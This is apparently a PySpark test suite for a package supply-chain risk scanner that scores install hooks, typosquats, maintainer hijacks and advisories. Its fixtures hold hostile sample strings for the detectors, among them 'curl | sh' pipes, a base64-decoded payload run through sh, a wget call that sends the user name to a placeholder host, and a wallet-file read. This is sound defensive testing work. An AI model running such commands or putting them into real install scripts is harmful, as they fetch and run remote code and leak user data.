from __future__ import annotations

from pyspark.sql import functions as F

from plumbline.operators import advisories as A
from plumbline.operators import files as FI
from plumbline.operators import heuristics as H
from plumbline.operators import reach as RE
from plumbline.operators import risk as K
from plumbline.operators import scripts as SC
from plumbline.operators import snapshots as SN

FP = "ecosystem string, name string, version string, analyzed boolean, capabilities array<string>, n_hooks int, env_reads array<string>"

# Published capabilities, scores and verdicts of known packages.
KNOWN = [
    ("cran", "a", ["install-hook-suspicious", "obfuscated-payload", "suspicious-url", "typosquat-risk"], 225), ("crates", "b", ["binary-dropper", "typosquat-risk"], 70),
    ("crates", "c", ["net-egress", "suspicious-url", "typosquat-risk"], 103), ("crates", "d", ["base64-decode", "dynamic-eval", "net-egress", "shell-spawn", "suspicious-url", "typosquat-risk"], 140),
    ("hex", "e", ["install-hook-suspicious", "net-egress", "shell-spawn", "suspicious-url"], 138), ("maven", "f", ["dynamic-eval", "net-egress"], 23),
    ("maven", "g", ["dynamic-eval", "fs-write-outside-root", "net-egress"], 31), ("npm", "h", ["base64-decode", "dynamic-eval", "net-egress", "obfuscated-payload", "suspicious-url"], 145),
    ("npm", "i", ["base64-decode", "git-dep-in-optional", "install-hook-exec", "install-hook-suspicious", "known-malware-ioc", "net-egress", "vcs-dependency"], 330), ("pub", "j", ["env-read", "install-hook-suspicious", "net-egress", "shell-spawn", "suspicious-url"], 138),
    ("pypi", "k", ["binary-dropper"], 25), ("rubygems", "l", ["base64-decode", "dynamic-eval"], 27),
]


def test_known_scores(spark):
    hooks = {"i": 1}  # its declared hook scores 30, its install-hook-exec nothing
    rows = [(e, n, "1", True, caps, hooks.get(n, 0), ["PATH"]) for e, n, caps, _ in KNOWN]
    got = {r["name"]: r["score"] for r in K.scores(K.risk_flags(spark.createDataFrame(rows, FP))).collect()}
    assert got == {n: s for _, n, _, s in KNOWN}


def test_risk_edges(spark):
    rows = [("npm", "a", "1", False, [], 0, []), ("npm", "b", "1", True, ["env-read"], 0, ["aws_key"]), ("npm", "c", "1", True, ["env-read"], 0, ["HOME"]), ("npm", "d", "1", True, ["install-hook-exec"], 2, []), ("npm", "e", "1", True, ["install-hook-exec"], 0, []), ("npm", "f", "1", None, None, None, None)]
    got = {r["name"]: r["score"] for r in K.scores(K.risk_flags(spark.createDataFrame(rows, FP))).collect()}
    assert got == {"b": 15, "d": 60, "e": 20}


def test_size_drift(spark):
    pairs = [(0, 9, 0), (10, 20, 5), (10, 19, 0), (10, 5, 5), (10, 6, 0)]
    rows = [(i, True, True, [], [], {}, {}, a, b) for i, (a, b, _) in enumerate(pairs)]
    frame = spark.createDataFrame(rows, "k int, prev_analyzed boolean, next_analyzed boolean, prev_capabilities array<string>, next_capabilities array<string>, prev_hooks map<string,string>, next_hooks map<string,string>, prev_size long, next_size long")
    got = {r["k"]: r["score"] for r in K.scores(K.drift_flags(frame, ["k"]), ["k"]).collect()}
    assert got == {i: s for i, (_, _, s) in enumerate(pairs) if s}


def test_allowlist_order_and_codes(spark):
    flags = spark.createDataFrame([("npm", "x", "1.0.0", c, 10) for c in ("shell-spawn", "net-egress", "install-hook", "env-cred-read")] + [("npm", "x", "", "shell-spawn", 10)], "ecosystem string, name string, version string, code string, weight int")
    rules = spark.createDataFrame([(1, "npm", "*", "", None, "any"), (2, "npm", "x", "^1", "shell-spawn", "exact")], "rule_ord int, ecosystem string, name string, version_range string, capability string, reason string")
    got = {(r["version"], r["code"]): r["suppress_by"] for r in K.apply_allowlist(flags, rules).collect()}
    assert got == {("1.0.0", "shell-spawn"): "allowlisted: exact", ("1.0.0", "net-egress"): "allowlisted: any", ("1.0.0", "install-hook"): None, ("1.0.0", "env-cred-read"): None, ("", "shell-spawn"): "allowlisted: any"}


def test_unused_keeps_install_flags(spark):
    flags = spark.createDataFrame([("npm", "x", "1", "net-egress", 8, "unused"), ("npm", "x", "1", "install-hook", 30, "unused"), ("npm", "y", "1", "net-egress", 8, "unknown")], "ecosystem string, name string, version string, code string, weight int, reach string")
    got = {r["name"]: r["score"] for r in K.scores(K.downgrade_unused(flags, F.col("reach"))).collect()}
    assert got == {"x": 30, "y": 8}


def test_alias_merge_is_sequential(spark):
    rows = [("npm", "p", 1, "A", ["B"]), ("npm", "p", 2, "C", ["B", "D"]), ("npm", "p", 3, "D", None), ("npm", "p", 4, "E", ["A"]), ("npm", "p", 5, "A", [])]
    got = A.merge_by_alias(spark.createDataFrame(rows, "ecosystem string, name string, position int, id string, aliases array<string>")).collect()
    assert sorted(r["id"] for r in got) == ["A", "D"]  # C went by B, so D is new


def test_osv_documents(spark):
    docs = [
        ("1", '{"id":"X-1","details":"first\\nsecond","severity":[{"type":"CVSS_V3","score":"CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:H"}],"database_specific":{"severity":"HIGH"},"affected":[{"ranges":[{"type":"GIT","events":[{"fixed":"abc"}]},{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":""},{"fixed":"1.2.3"}]}],"ecosystem_specific":{"functions":["f","g"]}},{"ecosystem_specific":{"functions":["f"]}}]}'),
        ("2", '{"id":"X-2","severity":[{"type":"CVSS_V4","score":"CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N"}]}'), ("3", '{"id":"X-3","summary":"s","database_specific":{"severity":"MODERATE"}}'),
    ]
    got = {r["id"]: r for r in A.parse_osv(spark.createDataFrame(docs, "k string, json string")).collect()}
    assert (got["X-1"]["severity"], got["X-1"]["summary"], got["X-1"]["fixed_in"], got["X-1"]["functions"]) == ("high", "first", "1.2.3", ["f", "g"])
    assert (got["X-2"]["severity"], got["X-2"]["summary"], got["X-2"]["fixed_in"]) == ("info", "(no summary provided)", "")
    assert got["X-3"]["severity"] == "medium"


def test_typosquats(spark):
    top = spark.createDataFrame([("npm", n) for n in ("lodash", "ab", "react-dom")], "ecosystem string, name string")
    names = ["lodahs", "lodash", "@s/lodahs", "xy", "lodashes", "lodashing", "Lodash", "react-dmo", "é", "reactdom", "odash", "xlodash"]
    got = {r["name"] for r in H.typosquats(spark.createDataFrame([("npm", n) for n in names], "ecosystem string, name string"), top).where("near <> 'ab'").collect()}
    assert got == {"lodahs", "@s/lodahs", "lodashes", "Lodash", "react-dmo", "reactdom", "odash", "xlodash"}
    short = {r["name"] for r in H.typosquats(spark.createDataFrame([("npm", n) for n in names], "ecosystem string, name string"), top).where("near = 'ab'").collect()}
    assert short == {"xy", "é"}  # two bytes are near any two bytes


def test_typosquat_candidates_lose_nothing(spark):
    import itertools
    import random

    rng = random.Random(3)
    tops = ["".join(rng.choice("abc") for _ in range(rng.randint(2, 9))) for _ in range(20)]
    names = sorted({"".join(rng.choice("abc") for _ in range(rng.randint(1, 10))) for _ in range(200)} - set(tops))

    def distance(a, b):
        row = list(range(len(b) + 1))
        for i, x in enumerate(a, 1):
            row = list(itertools.accumulate(range(1, len(b) + 1), lambda left, j: min(left + 1, row[j] + 1, row[j - 1] + (x != b[j - 1])), initial=i))
        return row[-1]

    want = {(n, t) for n in names for t in tops if distance(n, t) <= 2}
    frame = lambda xs: spark.createDataFrame([("npm", x) for x in xs], "ecosystem string, name string")
    assert {(r["name"], r["near"]) for r in H.typosquats(frame(names), frame(tops)).collect()} == want


def test_hijack_bounds(spark):
    rows = [("a", "2024-01-01", "2023-07-05", 5), ("b", "2024-01-01", "2023-07-06", 0), ("c", "2023-12-31", None, 999), ("d", None, None, 5), ("e", "2024-01-02", "2023-01-01", 1000)]
    frame = spark.createDataFrame([("npm", n, "1", p, q, w, "x", "x") for n, p, q, w in rows], "ecosystem string, name string, version string, p string, q string, weekly_downloads long, publisher string, previous_publisher string")
    frame = frame.withColumns({"published_at": F.col("p").cast("timestamp"), "previous_published_at": F.col("q").cast("timestamp")})
    got = {r["name"]: r["hijack_points"] for r in H.hijack_signals(frame, F.lit("2024-01-08").cast("timestamp")).collect()}
    assert got == {"a": 3, "b": 1, "c": 1, "d": 0, "e": 2}


def test_overlay_rules(spark):
    rows = [(0, "d/x", "file"), (0, "d/s/y", "file"), (1, "d", "opaque"), (1, "d/z", "file"), (0, "w", "file"), (1, "w", "whiteout"), (0, "t/u", "file"), (1, "t", "whiteout"), (0, "r", "file"), (1, "r", "whiteout"), (2, "r", "file")]
    got = {r["path"] for r in FI.overlay(spark.createDataFrame([(1, *r) for r in rows], "image int, layer int, path string, kind string")).collect()}
    assert got == {"d/z", "t/u", "r"}  # a whiteout takes only its own path


def test_snapshot_duplicates_and_null_contract(spark):
    make = lambda rows: spark.createDataFrame(rows, "ecosystem string, name string, version string, o int")
    got = {(r["name"], r["kind"], r["new_version"]) for r in SN.diff(make([("npm", "a", "1", 0), ("npm", "a", "2", 1), ("npm", "b", "1", 2)]), make([("npm", "a", "2", 0), ("npm", "c", "1", 1)]), "o").collect()}
    assert got == {("b", "removed", None), ("c", "added", "1")}
    frame = spark.createDataFrame([("x", None, []), ("y", "fp", None), ("z", "fp", [])], "name string, fingerprint string, advisories array<string>")
    assert sorted(r["name"] for r in SN.to_enrich(frame).collect()) == ["x", "y"]


def test_reachability(spark):
    deps = spark.createDataFrame([("npm", "lodash"), ("npm", "left"), ("pypi", "PyYAML"), ("go", "github.com/a/b"), ("nuget", "Newton.Json"), ("crates", "serde")], "ecosystem string, name string")
    imports = spark.createDataFrame([("js", "lodash/fp"), ("py", "yaml.nodes"), ("go", "github.com/a/b/c"), ("c#", "Newton.Json.Linq")], "language string, module string")
    got = {r["name"]: r["reachability"] for r in RE.project_reachability(deps, imports).collect()}
    assert got == {"lodash": "used", "left": "unused", "PyYAML": "used", "github.com/a/b": "used", "Newton.Json": "used", "serde": "unknown"}


def test_history_bound(spark):
    rows = [("a", 1, 0), ("a", 2, 86400), ("b", 1, 0), ("b", 2, 86401), ("b", 3, 0)]
    got = [(r["package"], r["at"]) for r in SC.history_findings(spark.createDataFrame(rows, "package string, position int, commit_date long")).collect()]
    assert got == [("b", 1)]


def test_closure_of_a_cycle(spark):
    edges = spark.createDataFrame([("a", "b"), ("b", "c"), ("c", "a"), ("d", "a"), ("e", "f")], "caller string, callee string")
    got = {r["function"]: r["depth"] for r in RE.callers_closure(edges, spark.createDataFrame([("c",)], "function string")).collect()}
    assert got == {"c": 0, "b": 1, "a": 2, "d": 3}


def test_closure_of_a_long_chain(spark):
    edges = spark.createDataFrame([(f"f{k + 1}", f"f{k}") for k in range(70)], "caller string, callee string")
    got = {r["function"]: r["depth"] for r in RE.callers_closure(edges, spark.createDataFrame([("f0",)], "function string")).collect()}
    assert got == {f"f{k}": k for k in range(71)}


def test_hooks(spark):
    bad = ["curl http://x | sh", '"cu" + "rl http://x" + " | sh"', "node -e \"require('https').get('x')\"", "python3 -c 'import os'", "echo " + "A" * 44 + " | base64 -d | sh", "wget -q http://x.example/?u=`whoami`", "bun run setup.js"]
    good = ["node-gyp rebuild", "node -e \"process.exit(0)\"", "echo installed for $(whoami)", "husky install", ""]
    frame = spark.createDataFrame([(x,) for x in bad + good], "b string")
    got = {r[0]: r[1] for r in frame.select("b", H.suspicious_hook(F.col("b"))).collect()}
    assert [got[x] for x in bad] == [True] * len(bad) and [got[x] for x in good] == [False] * len(good)


def test_hook_files_and_maintainer_capabilities(spark):
    got = spark.createDataFrame([("node ./a.js --x=b.js && sh 'c d.sh'; curl http://x/y.sh",)], "b string").select(H.hook_files(F.col("b"))).first()[0]
    assert got == ["./a.js", "d.sh"]
    got = spark.createDataFrame([("node ./A.js --x=b.js && sh (c/d.sh); curl http://x/y.sh a. .profile",)], "b string").select(H.hook_paths(F.col("b"))).first()[0]
    assert got == ["a.js", "c/d.sh", ".profile"]
    frame = spark.createDataFrame([(True, False, True), (False, True, None)], "hijack_risk boolean, maintainer_changed boolean, unpublished boolean")
    assert [r["capabilities"] for r in H.maintainer_capabilities(frame).collect()] == [["maintainer-hijack-risk", "version-unpublished"], ["maintainer-changed"]]


def test_literals_are_joined_to_the_end(spark):
    from plumbline.functions import rules as R

    got = spark.createDataFrame([('x""+"+"y',), ('"cu" + "" + "rl"',), ("plain",)], "t string").select(R.join_literals(F.col("t"))).collect()
    assert [r[0] for r in got] == ["xy", '"curl"', "plain"]


def test_image_deep_findings(spark):
    rows = [(1, "a/x.js", b"eval(atob('x'))"), (1, "a/y.js", b"\x00eval(atob('x'))"), (1, "a/z.py", b"import subprocess\nsubprocess.run(['x'])\n"), (1, "a/w.py", b"\xff subprocess.run(x)"), (1, "b/router_init.js", b"")]
    got = {(r["path"], r["capability"], r["depth"]) for r in FI.image_deep_findings(spark.createDataFrame(rows, "image int, path string, body binary")).collect()}
    assert {("a/x.js", "obfuscated-payload", "source"), ("a/x.js", "dynamic-eval", "code"), ("a/z.py", "shell-spawn", "code"), ("b/router_init.js", "known-malware-ioc", "source")} <= got
    assert not [x for x in got if x[0] == "a/y.js" or x[0] == "a/w.py" and x[2] == "code"]


def test_many_rules_for_any_name(spark, monkeypatch):
    monkeypatch.setattr(K, "MOST_BROADCAST", 1)
    monkeypatch.setattr(K, "SALTS", 3)
    flags = spark.createDataFrame([("npm", f"x{k}", "1.0.0", "shell-spawn", 10) for k in range(20)], "ecosystem string, name string, version string, code string, weight int")
    rules = spark.createDataFrame([(1, "npm", "*", "^2", None, "no"), (2, "npm", "*", "^1", None, "yes"), (3, "pypi", "*", "", None, "other")], "rule_ord int, ecosystem string, name string, version_range string, capability string, reason string")
    got = K.apply_allowlist(flags, rules).collect()
    assert len(got) == 20 and {r["suppress_by"] for r in got} == {"allowlisted: yes"}


def test_word_boundaries_of_rules_are_those_of_sql(spark):
    """A letter beside A to Z ends a word, whatever the Java release: so says the SQL of build files."""
    texts = ["ódo su la", "todo su la", "x do su la", "ñsu la", "é; cat wallet.daté", "# ódo su la"]
    files = spark.createDataFrame([(i, t) for i, t in enumerate(texts)], "package int, text string")
    got = {(r["package"], r["rule"]) for r in SC.build_file_findings(files).collect()}
    assert got == {(0, "privilege-escalation-in-build"), (2, "privilege-escalation-in-build"), (4, "credential-access")}


def test_word_boundaries_hold_for_files_that_share_a_key(spark):
    files = spark.createDataFrame([(1, "todo su la"), (1, "make\nódo su la")], "package int, text string")
    assert [(r["package"], r["line"], r["rule"]) for r in SC.build_file_findings(files).collect()] == [(1, 2, "privilege-escalation-in-build")]
